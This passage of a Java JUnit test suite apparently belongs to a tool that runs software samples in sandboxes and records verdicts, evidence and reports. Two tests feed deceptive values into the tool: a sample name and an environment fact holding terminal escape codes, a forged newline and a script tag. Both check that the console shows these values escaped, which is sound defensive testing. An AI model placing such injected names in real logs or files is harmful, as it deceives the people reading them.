
    assertThat(results()).hasSize(5);
    assertThat(console.toString(StandardCharsets.UTF_8))
        .contains(
            "warning: the corpus has changed since run "
                + latest().header().id()
                + " was started: it had 4 files, and has 5; the run has rows of both");
  }

  @Test
  void theRowOfADamagedLineIsSaidAndMeasuredAgain() throws IOException {
    run(experiment -> experiment);
    String run = latest().header().id();
    Path journal = latest().path().resolve("journal.jsonl");
    // each row is there once, or twice when its label came later
    Files.write(
        journal,
        Files.readAllLines(journal).stream()
            .map(line -> line.contains("b-fails") ? line.substring(7) : line)
            .toList());
    assertThat(failures(run(it -> it.option(RunOptions.BASELINE, run)))).isEmpty();
    String said = console.toString(StandardCharsets.UTF_8);
    assertThat(said)
        .containsPattern(
            "warning: -Dbaseline: run "
                + run
                + ": line \\d of journal.jsonl is damaged: its row is"
                + " lost");
    console.reset();
    int before = fake.started.get();

    run(experiment -> experiment.option(RunOptions.RESUME, run));

    assertThat(fake.started.get() - before).isEqualTo(1);
    assertThat(console.toString(StandardCharsets.UTF_8))
        .containsPattern(
            "warning: line \\d of journal.jsonl is damaged: its row is lost and measured again");
  }

  @Test
  void theExpectationsOfTodayCountForWhatAKilledRunHadFoundOut() throws IOException {
    Path expected =
        Files.writeString(folder.resolve("expected.csv"), "sample,verdict\na-exits,EXECUTABLE\n");
    run(experiment -> experiment.expecting(expected));
    Files.writeString(expected, "sample,verdict\na-exits,NOT_EXECUTABLE\n");

    Events events =
        run(experiment -> experiment.expecting(expected).option(RunOptions.RESUME, "latest"));

    assertThat(failures(events).values())
        .containsExactly(
            "a-exits in fake: expected NOT_EXECUTABLE by expected.csv, but it is EXECUTABLE");
    assertThat(fake.started).as("nothing was run again").hasValue(4);
    assertThat(results()).hasSize(4).filteredOn(r -> !r.violations().isEmpty()).hasSize(1);
  }

  @Test
  void aSampleWithoutAResultKeepsNoOtherFromBeingReported() throws IOException {
    sample("a-collapses", "exit 0\n#");
    List<Integer> reported = new ArrayList<>();
    Report counting =
        new Report() {
          @Override
          public String name() {
            return "counting";
          }

          @Override
          public Path write(Runs runs, Options options) throws IOException {
            runs.run().forEachResult(result -> reported.add(1));
            return runs.run().path();
          }
        };

    Events events =
        run(
            experiment ->
                experiment.checking(
                    result -> {
                      if (result.sample().equals("a-collapses")) {
                        throw new StackOverflowError("a defect of the user's check");
                      }
                    }),
            List.of(counting));

    assertThat(failures(events).keySet()).singleElement().asString().startsWith("a-collapses ");
    assertThat(reported).hasSize(4);
    assertThat(fake.closed).hasValue(1);
  }

  @Test
  void whatWasUnpackedIsGoneWhenTheRunHasEnded() throws IOException {
    Path zip = zip("exit 0");
    run(experiment -> experiment.option(RunOptions.SAMPLES, zip.toString()));
    assertThat(results()).hasSize(1).allMatch(r -> r.verdict().outcome() == Outcome.EXECUTABLE);
    assertThat(latest().path().resolve("samples")).doesNotExist();
  }

  @Test
  void whatWasUnpackedIsGoneWhenTheRunCannotStart() throws IOException {
    Path zip = zip("exit 0");
    assertThat(
            onlyFailure(
                run(
                    experiment ->
                        experiment
                            .option(RunOptions.SAMPLES, zip.toString())
                            .option(RunOptions.SAMPLE, "nothing"))))
        .contains("-Dsample=nothing");
    assertThat(folder.resolve("runs")).isEmptyDirectory();
  }

  /** A program that opens a run and stays. */
  static final class OpenRun {
    public static void main(String[] args) throws InterruptedException {
      Stream<DynamicNode> tests =
          Experiment.on(Path.of(args[0]))
              .in("fake")
              .option(RunOptions.OUT, args[1])
              .with(List.of(new FakeEnvironment("fake", Map.of())), List.of())
              .tests();
      System.out.println("open");
      Thread.currentThread().join();
      tests.close();
    }
  }

  @Test
  void whatWasUnpackedIsGoneWhenTheRunIsEndedByASignal() throws Exception {
    Process program =
        new ProcessBuilder(
                Path.of(System.getProperty("java.home"), "bin", "java").toString(),
                "-cp",
                System.getProperty("java.class.path"),
                OpenRun.class.getName(),
                zip("exit 0").toString(),
                folder.resolve("runs").toString())
            .redirectError(ProcessBuilder.Redirect.INHERIT)
            .start();
    try (BufferedReader out = program.inputReader(StandardCharsets.UTF_8)) {
      assertThat(out.lines().anyMatch("open"::equals)).isTrue();
      assertThat(latest().path().resolve("samples")).isNotEmptyDirectory();
    } finally {
      program.destroy(); // SIGTERM, as by a CI system that cancels
      program.waitFor();
    }
    assertThat(latest().path().resolve("samples")).doesNotExist();
    assertThat(latest().path().resolve("journal.jsonl")).exists();
  }

  @Test
  void aRunIsNotContinuedWithOtherOptionsOrAnotherImage() {
    run(experiment -> experiment);
    assertThat(
            onlyFailure(
                run(
                    experiment ->
                        experiment
                            .option(RunOptions.RESUME, "")
                            .option(RunOptions.TIME_LIMIT, "3s"))))
        .contains("cannot be continued: option -Dtime.limit was 10s and is now 3s");
    FakeEnvironment rebuilt = new FakeEnvironment("fake", Map.of("image", "sha256:2"));
    assertThat(
            onlyFailure(
                execute(
                    experiment()
                        .option(RunOptions.RESUME, "latest")
                        .with(List.of(rebuilt), List.of()))))
        .contains("cannot be continued: fake: image was sha256:1 and is now sha256:2");
  }

  @Test
  void aNameMadeToDeceiveIsShownEscaped() throws IOException {
    sample("evil\n\u001b[2J<script>", "exit 0\n#");
    run(experiment -> experiment);
    assertThat(console.toString(StandardCharsets.UTF_8))
        .contains("evil\\n\\x1b[2J<script>")
        .doesNotContain("\u001b");
  }

  @Test
  void aFactOfAUsersImageIsShownEscaped() {
    FakeEnvironment foreign =
        new FakeEnvironment("fake", Map.of("service", "nginx\u001b[2J\nenvironment forged"));
    execute(experiment().with(List.of(foreign), List.of()));
    assertThat(console.toString(StandardCharsets.UTF_8))
        .doesNotContain("\u001b", "\nenvironment forged");
  }

  @Test
  void whatAnEnvironmentWantsMendedIsInTheHeader() {
    FakeEnvironment poor = new FakeEnvironment("fake", Map.of("to be mended", "few descriptors"));
    execute(experiment().with(List.of(poor), List.of()));
    assertThat(console.toString(StandardCharsets.UTF_8)).contains("warning: few descriptors\n");
  }

  private static Report report(String name, UnaryOperator<Path> writing) {
    return report(name, false, writing);
  }

  private static Report report(String name, boolean onRequest, UnaryOperator<Path> writing) {
    return new Report() {
      @Override
      public String name() {
        return name;
      }

      @Override
      public boolean onRequest() {
        return onRequest;
      }

      @Override
      public Path write(Runs runs, Options options) {
        return writing.apply(runs.run().path());
      }
    };
  }

  @Test
  void aReportOnRequestIsMadeWhereItIsNamedAlone() throws IOException {
    List<Report> reports =
        List.of(report("always", run -> run), report("rare", true, run -> run.resolve("rare")));
    run(experiment -> experiment, reports);
    assertThat(console()).contains("\nalways ").doesNotContain("/rare");
    run(experiment -> experiment.option(RunOptions.REPORTS, "rare"), reports);
    assertThat(console()).containsOnlyOnce("\nalways ").contains(latest().path() + "/rare");
  }

  @Test
  void aReportThatCannotBeWrittenSilencesNeitherTheOthersNorTheClosingTable() throws IOException {
    Report full =
        report(
            "full",
            run -> {
              throw new UncheckedIOException(new IOException("No space left on device"));
            });
    Report defect =
        report(
            "defect",
            run -> {
              throw new IllegalStateException("a defect of the report");
            });
    Events events =
        run(experiment -> experiment, List.of(full, defect, report("last", run -> run)));
    assertThat(failures(events))
        .isEqualTo(
            Map.of(
                "reports",
                "report full (%1$s): cannot be written: No space left on device; report defect (%1$s):"
                        .formatted(full.getClass().getName())
                    + " write threw java.lang.IllegalStateException: a defect of the report"));
    assertThat(results()).hasSize(4);
    assertThat(console.toString(StandardCharsets.UTF_8))
        .containsPattern("fake +4 +2 +2 +0 +0")
        .containsPattern("full       FAILED: .*No space left on device")
        .containsPattern("defect     FAILED: .*a defect of the report")
        .contains("last       " + latest().path());
  }

  @Test
  void aJournalThatCannotBeReadAnyMoreIsSaidAndTheClosingTableIsPrinted() {
    Events events =
        run(
            it ->
                it.checking(
                    result -> {
                      try {
                        Files.deleteIfExists(latest().path().resolve("journal.jsonl"));
                      } catch (IOException e) {
                        throw new UncheckedIOException(e);
                      }
                    }),
            List.of(report("never", run -> run)));
    assertThat(failures(events)).containsOnlyKeys("reports");
    assertThat(onlyFailure(events)).endsWith("journal.jsonl does not exist");
    assertThat(console())
        .containsPattern("fake +4 +2 +2 +0 +0")
        .doesNotContain("\nnever ")
        .containsPattern("\nrun +/");
  }

  @Test
  void whatAGuestWasGivenStandsInItsRowAndTheClosingTableSaysHowManyRunForIt() throws IOException {
    FakeEnvironment supplying =
        new FakeEnvironment("fake", Map.of("supplies", "/lib/ld-linux.so.3"));
    execute(experiment().with(List.of(supplying), List.of()));
    assertThat(results())
        .extracting(
            result -> result.sample() + " " + result.libraries().orElseThrow().addedInOneLine())
        .containsExactlyInAnyOrder(
            "a-exits /lib/ld-linux.so.3 (made up)",
            "b-fails /lib/ld-linux.so.3 (made up)",
            "c-crashes ",
            "d-runs ");
    assertThat(console())
        .contains(
            "\nfake, libraries: supplied to 2 samples, of which 1 run that did not without\n");
    run(experiment -> experiment);
    assertThat(results()).allMatch(result -> result.libraries().isEmpty());
  }

  @Test
  void whatIsNearNoOptionBelongsToOthers() {
    for (String name : List.of("myapp.timeout", "sample.rate", "report.dir", "test")) {
      Option<String> foreign = Option.optional(name, "", "", text -> text);
      assertThat(failures(run(experiment -> experiment.option(foreign, "1")))).isEmpty();
    }
  }

  @Test
  void onlyTheReportsThatAreAskedForAreWritten() {
    Stranger one = new Stranger().but("provider.name", () -> "one");
    Stranger two = new Stranger().but("provider.name", () -> "two");
    run(experiment -> experiment.option(RunOptions.REPORTS, "two"), List.of(one, two));
    assertThat(console()).containsPattern("\ntwo +/").doesNotContainPattern("\none +/");
  }

  @Test
  void aReportGetsItsOptions() {
    Option<Integer> width = Option.of("wide.width", "COUNT", "80", "columns", Integer::valueOf);
    List<Integer> widths = new ArrayList<>();
    Report wide =
        new Report() {
          @Override
          public String name() {
            return "wide";
          }

          @Override
          public List<Option<?>> options() {
            return List.of(width);
          }

          @Override
          public Path write(Runs runs, Options options) {
            widths.add(options.get(width));
            return runs.run().path();
          }
        };
    run(experiment -> experiment, List.of(wide));
    run(experiment -> experiment.option(width, "132"), List.of(wide));
    assertThat(widths).containsExactly(80, 132);
    assertThat(console()).contains("wide.width=80", "wide.width=132");
    assertThat(onlyFailure(run(experiment -> experiment.option(width, "all"), List.of(wide))))
        .startsWith("-Dwide.width=all: ");
  }

  @Test
  void aReportSeesTheRunsBeforeItsOwn() throws IOException {
    List<String> ids = new ArrayList<>();
    List<List<String>> earlier = new ArrayList<>();
    Stranger other = new Stranger();
    Report history =
        new Report() {
          @Override
          public String name() {
            return "history";
          }

          @Override
          public Path write(Runs runs, Options options) {
            ids.add(runs.run().header().id());
            earlier.add(runs.earlier().stream().map(run -> run.header().id()).toList());
            return runs.run().path();
          }
        };
    for (int i = 0; i < 3; i++) {
      run(experiment -> experiment, List.of(history, other));
    }
    assertThat(earlier)
        .containsExactly(List.of(), List.of(ids.get(0)), List.of(ids.get(0), ids.get(1)));
  }

  @Test
  void expectationsForSamplesThatAreNotThereAreTold() throws IOException {
    Path expected =
        Files.writeString(
            folder.resolve("expected.csv"),
            "sample,verdict\n"
                + "*,EXECUTABLE\n"
                + "a-exits,EXECUTABLE\n"
                + "gone-1,EXECUTABLE\n"
                + "gone-2,EXECUTABLE\n");
    run(experiment -> experiment.expecting(expected));
    assertThat(console())
        .contains(
            "warning: -Dexpect: 2 samples of expected.csv are not in this run, such as gone-1,"
                + " gone-2");
    console.reset();
    run(experiment -> experiment.expecting(expected).option(RunOptions.SAMPLE, "a-exits"));
    assertThat(console()).as("chosen by the user").doesNotContain("warning: -Dexpect");
  }

  @Test
  void aGateThatCouldNotJudgeSaysSo() {
    String warning =
        "warning: -Dmax.threat=5.0 says nothing of samples that run and have no score: 2";
    Events events = run(experiment -> experiment.option(RunOptions.MAX_THREAT, "5"));
    assertThat(failures(events)).isEmpty();
    assertThat(console()).contains(warning);
    console.reset();
    run(experiment -> experiment);
    assertThat(console()).doesNotContain("warning: -Dmax.threat");
  }

  @Test
  void aChangedPageIsEvidenceBesideTheOneBefore() throws IOException {
    sample("defaces", "defaces x");
    run(experiment -> experiment);
    for (Result result : results()) {
      Path evidence = latest().path().resolve(result.evidence());
      if (result.sample().equals("defaces")) {
        assertThat(evidence.resolve("page-changed")).hasContent("owned by x");
        assertThat(evidence.resolve("page-before")).hasContent("page");
      } else {
        assertThat(evidence.resolve("page-changed")).doesNotExist();
        assertThat(evidence.resolve("page-before")).doesNotExist();
      }
    }
  }

  @Test
  void aRunNamesItsExperiment() throws IOException {
    run(experiment -> experiment);
    assertThat(latest().header().experiment()).isEqualTo("Study.samples");
    assertThat(console())
        .startsWith("Malassay run " + latest().header().id() + " of Study.samples");
  }

  @Test
  void oneTestAloneRunsItsSampleAndWritesTheReports() throws IOException {
    for (int i = 0; i < 60; i++) {
      sample("e-more-" + i, "exit 0\n" + i);
    }
    sample("z-last", "exit 0\nlast");
    Experiment experiment = experiment().with(List.of(fake), List.of(new Stranger()));
    Events events =
        execute(
            experiment,
            selectUniqueId(
                "[engine:junit-jupiter]/[class:%s]/[test-factory:samples()]"
                        .formatted(Study.class.getName())
                    + "/[dynamic-container:#1]/[dynamic-test:#65]"));
    assertThat(failures(events)).isEmpty();
    assertThat(events.succeeded().stream().map(e -> e.getTestDescriptor().getDisplayName()))
        .anyMatch(name -> name.startsWith("z-last"))
        .noneMatch(name -> name.startsWith("e-more"));
    assertThat(results())
        .extracting(Result::sample)
        .as("it came first, and what began beside it")
        .contains("z-last")
        .hasSizeLessThan(65);
    assertThat(console()).containsPattern("\nstranger +/");
    assertThat(fake.closed).hasValue(1);
  }

  @Test
  void helpIsPrintedInThePlaceOfARun() {
    Events events =
        execute(
            experiment()
                .option(RunOptions.HELP, "true")
                .with(
                    List.of(fake, new Stranger().but("options", () -> null)),
                    List.of(new Stranger())));
    assertThat(failures(events)).isEmpty();
    assertThat(console())
        .startsWith("mvn test -Denv=")
        .contains("-Dfake.port=PORT", "Reports\n  stranger\n", "-Dreports=NAME,...")
        .contains(
            "cannot be used: environment provider org.malassay.experiment.Stranger: options()");
    assertThat(fake.opened).hasValue(0);
  }

  @Test
  void helpListsEveryOptionWithItsDefault() {
    ByteArrayOutputStream out = new ByteArrayOutputStream();
    Help.print(
        Installed.onClassPath().with(List.of(fake), List.of()),
        new PrintStream(out, true, StandardCharsets.UTF_8));
    assertThat(out.toString(StandardCharsets.UTF_8))
        .contains("-Dtime.limit=DURATION", "(default 10s)", "-Dfake.port=PORT", "-Dsetup");
    new RunOptions()
        .options()
        .forEach(
            option ->
                assertThat(out.toString(StandardCharsets.UTF_8)).contains("-D" + option.name()));
    assertThat(out.toString(StandardCharsets.UTF_8).lines())
        .filteredOn(line -> line.startsWith("  -D"))
        .as("descriptions stand in one column")
        .allMatch(line -> line.matches("  -D.{27}  \\S.*"));
  }
}
